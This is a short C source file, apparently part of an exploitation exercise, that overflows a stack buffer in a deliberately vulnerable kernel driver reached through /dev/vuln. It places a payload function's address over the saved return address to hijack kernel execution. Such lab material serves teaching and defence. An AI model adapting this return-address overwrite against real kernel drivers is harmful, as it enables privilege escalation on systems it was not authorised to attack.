// A buffer on the kernel's stack overflows; the return address behind it becomes that of the payload.
#include "exploit.h"

// 16 bytes of buffer, two saved registers, then the return address (kernel/drivers/vuln_overflow.S).
enum { WORDS_BEFORE = 6 };

static int run(const struct vuln_leak *leak) {
    (void)leak;
    uint32_t overflow[WORDS_BEFORE + 1] = {0};
    overflow[WORDS_BEFORE] = (uintptr_t)payload_escape;
    struct vuln_request request = {(uintptr_t)overflow, 0, sizeof overflow};
    return call_and_escape(open("/dev/vuln"), VULN_OVERFLOW, (uintptr_t)&request);
}

const struct exploit exploit_return = {"return", run, payload_escape};
